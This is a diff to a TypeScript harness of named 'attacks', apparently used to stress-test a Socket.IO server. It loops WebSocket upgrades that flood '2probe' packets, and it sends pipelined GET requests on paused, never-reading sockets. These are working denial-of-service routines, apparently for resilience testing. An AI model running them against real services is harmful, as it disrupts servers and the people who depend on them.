@@ -124,17 +124,20 @@ const attacks: Record<string, () => Promise<object>> = {
 
   // The WebSocket of an upgrade, before it takes over.
   probes: async () => {
-    const sid = (await openPolling()).split('sid=')[1];
-    const socket = new WebSocket(`${address}&sid=${sid}`);
-    socket.on('error', () => {});
-    await new Promise((done) => socket.once('open', done));
-    let sent = 0;
-    while (isOn() && socket.readyState === WebSocket.OPEN) {
-      for (let i = 0; i < 500; i++) socket.send('2probe');
-      sent += 500;
-      await delay(0);
+    let connections = 0;
+    while (isOn()) {
+      const sid = (await openPolling()).split('sid=')[1];
+      const socket = new WebSocket(`${address}&sid=${sid}`);
+      socket.on('error', () => {});
+      await new Promise((done) => socket.once('open', done).once('close', done));
+      connections += 1;
+      while (isOn() && socket.readyState === WebSocket.OPEN) {
+        for (let i = 0; i < 500; i++) socket.send('2probe');
+        await delay(1);
+      }
+      socket.terminate();
     }
-    return { ended: socket.readyState !== WebSocket.OPEN, sent };
+    return { connections };
   },
 
   'never-reading': async () => {
@@ -240,7 +243,7 @@ const attacks: Record<string, () => Promise<object>> = {
     );
     for (const socket of sockets) {
       socket.pause();
-      socket.write(`GET /socket.io/socket.io.js HTTP/1.1\r\nhost: ${host}\r\n\r\n`.repeat(50));
+      socket.write(`GET /socket.io/socket.io.js HTTP/1.1\r\nhost: ${host}\r\n\r\n`.repeat(20));
     }
     await delay(SECONDS * 1000);
     for (const socket of sockets) socket.destroy();
